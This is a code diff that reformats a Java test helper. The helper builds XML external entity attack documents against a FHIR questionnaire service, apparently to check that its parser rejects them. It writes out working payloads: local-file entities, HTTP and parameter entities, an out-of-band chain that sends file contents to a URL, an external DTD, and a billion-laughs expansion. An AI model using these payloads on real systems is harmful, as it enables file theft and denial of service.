@@ -60,16 +60,20 @@ final class XmlEntities implements AutoCloseable {
 
     /** A valid response in XML whose narrative holds {@link #ENTITY_PLACE}, for a DOCTYPE to fill. */
     static String responseXml(String identifier) {
-        QuestionnaireResponse response = benign().identifier("urn:test:xxe", identifier).build();
-        response.getText().setStatus(Narrative.NarrativeStatus.GENERATED)
+        QuestionnaireResponse response =
+                benign().identifier("urn:test:xxe", identifier).build();
+        response.getText()
+                .setStatus(Narrative.NarrativeStatus.GENERATED)
                 .setDivAsString("<div xmlns=\"http://www.w3.org/1999/xhtml\">" + ENTITY_PLACE + "</div>");
         return Content.FHIR.newXmlParser().encodeResourceToString(response);
     }
 
     /** The same response as the parameter {@code resource} of a Parameters body, for $submit and $triage. */
     static String parametersXml(String identifier) {
-        QuestionnaireResponse response = benign().identifier("urn:test:xxe", identifier).build();
-        response.getText().setStatus(Narrative.NarrativeStatus.GENERATED)
+        QuestionnaireResponse response =
+                benign().identifier("urn:test:xxe", identifier).build();
+        response.getText()
+                .setStatus(Narrative.NarrativeStatus.GENERATED)
                 .setDivAsString("<div xmlns=\"http://www.w3.org/1999/xhtml\">" + ENTITY_PLACE + "</div>");
         Parameters parameters = new Parameters();
         parameters.addParameter().setName("resource").setResource(response);
@@ -79,20 +83,33 @@ final class XmlEntities implements AutoCloseable {
     /** Documents by attack, each with the doctype put before {@code document}'s root and the entity used in it. */
     Map<String, String> attacks(String document) {
         Map<String, String> attacks = new LinkedHashMap<>();
-        attacks.put("external entity (file)", withDoctype(document,
-                "<!ENTITY xxe SYSTEM \"" + fileUrl() + "\">", "&xxe;"));
-        attacks.put("external entity in an attribute", withDoctype(document,
-                "<!ENTITY xxe SYSTEM \"" + fileUrl() + "\">", "").replace("value=\"completed\"", "value=\"&xxe;\""));
-        attacks.put("external entity (http)", withDoctype(document,
-                "<!ENTITY xxe SYSTEM \"" + httpUrl("/entity") + "\">", "&xxe;"));
-        attacks.put("parameter entity", withDoctype(document,
-                "<!ENTITY % remote SYSTEM \"" + httpUrl("/remote.dtd") + "\"> %remote;", "&leak;"));
-        attacks.put("parameter entity sending the file out", withDoctype(document,
-                "<!ENTITY % file SYSTEM \"" + fileUrl() + "\">"
-                        + "<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '" + httpUrl("/?d=") + "%file;'>\">"
-                        + " %eval; %send;", ""));
-        attacks.put("external DTD", document.replaceFirst("<(QuestionnaireResponse|Parameters) ",
-                "<!DOCTYPE $1 SYSTEM \"" + httpUrl("/external.dtd") + "\"><$1 ").replace(ENTITY_PLACE, "&leak;"));
+        attacks.put(
+                "external entity (file)", withDoctype(document, "<!ENTITY xxe SYSTEM \"" + fileUrl() + "\">", "&xxe;"));
+        attacks.put(
+                "external entity in an attribute",
+                withDoctype(document, "<!ENTITY xxe SYSTEM \"" + fileUrl() + "\">", "")
+                        .replace("value=\"completed\"", "value=\"&xxe;\""));
+        attacks.put(
+                "external entity (http)",
+                withDoctype(document, "<!ENTITY xxe SYSTEM \"" + httpUrl("/entity") + "\">", "&xxe;"));
+        attacks.put(
+                "parameter entity",
+                withDoctype(
+                        document, "<!ENTITY % remote SYSTEM \"" + httpUrl("/remote.dtd") + "\"> %remote;", "&leak;"));
+        attacks.put(
+                "parameter entity sending the file out",
+                withDoctype(
+                        document,
+                        "<!ENTITY % file SYSTEM \"" + fileUrl() + "\">"
+                                + "<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '" + httpUrl("/?d=") + "%file;'>\">"
+                                + " %eval; %send;",
+                        ""));
+        attacks.put(
+                "external DTD",
+                document.replaceFirst(
+                                "<(QuestionnaireResponse|Parameters) ",
+                                "<!DOCTYPE $1 SYSTEM \"" + httpUrl("/external.dtd") + "\"><$1 ")
+                        .replace(ENTITY_PLACE, "&leak;"));
         attacks.put("billion laughs", withDoctype(document, billionLaughs(), "&lol9;"));
         return attacks;
     }
@@ -107,7 +124,12 @@ final class XmlEntities implements AutoCloseable {
         StringBuilder declarations = new StringBuilder("<!ENTITY lol0 \"lol\">");
         for (int i = 1; i <= 9; i++) {
             String previous = "&lol" + (i - 1) + ";";
-            declarations.append("<!ENTITY lol").append(i).append(" \"").append(previous.repeat(10)).append("\">");
+            declarations
+                    .append("<!ENTITY lol")
+                    .append(i)
+                    .append(" \"")
+                    .append(previous.repeat(10))
+                    .append("\">");
         }
         return declarations.toString();
     }
